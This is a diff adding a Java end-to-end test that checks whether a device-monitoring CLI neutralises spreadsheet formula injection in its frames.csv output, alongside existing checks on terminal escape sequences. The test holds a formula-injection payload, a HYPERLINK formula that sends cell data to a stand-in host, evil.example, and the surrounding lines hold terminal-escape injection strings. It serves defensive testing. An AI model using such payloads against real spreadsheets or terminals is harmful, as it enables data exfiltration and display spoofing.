@@ -63,4 +63,39 @@ class HostileDeviceTextEndToEndTest {
         assertTrue(a.out.contains("android says (window \\e]0;PWNED\\x07\\e[2J\\e[31mRED"), a::toString);
         assertTrue(a.out.contains("\\u202e\\u009b)"), a::toString);
     }
+
+    /**
+     * A title a spreadsheet would evaluate (issue: "=HYPERLINK(…)" in frames.csv): every window cell starts with an
+     * apostrophe (docs/formats.md, "Device text in CSV cells"), and analyze reads the title back without it.
+     */
+    @Test
+    void aFormulaTitleIsNeutralisedInFramesCsvAndReadsBack(@TempDir Path dir) throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
+        Path s = scenario(dir, formula);
+        Path out = dir;
+        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "2s", "--plain", "--frames-csv",
+                out.resolve("frames.csv").toString());
+        assertEquals(ExitCode.OK, r.exit, r::toString);
+        java.util.List<String> rows = Files.readAllLines(out.resolve("frames.csv"));
+        int window = java.util.Arrays.asList(rows.get(0).split(",")).indexOf("window");
+        assertTrue(window >= 0, rows.get(0));
+        long withTitle = 0;
+        try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
+                .build().parse(Files.newBufferedReader(out.resolve("frames.csv")))) {
+            for (var rec : parser) {
+                String cell = rec.get("window");
+                assertTrue(!cell.startsWith("=") && !cell.startsWith("+") && !cell.startsWith("-")
+                        && !cell.startsWith("@"), cell);
+                if (cell.equals("'" + formula)) {
+                    withTitle++;
+                }
+            }
+        }
+        assertTrue(withTitle > 30, "rows of the titled window: " + withTitle);
+        Cli a = Cli.run("analyze", out.resolve("frames.csv").toString(), "--format", "json");
+        assertEquals(ExitCode.OK, a.exit, a::toString);
+        assertTrue(a.out.contains(JSON.writeValueAsString(formula).replace("/", "\\/"))
+                || a.out.contains(JSON.writeValueAsString(formula)), a::toString);
+        assertTrue(!a.out.contains("'=HYPERLINK"), a::toString);
+    }
 }
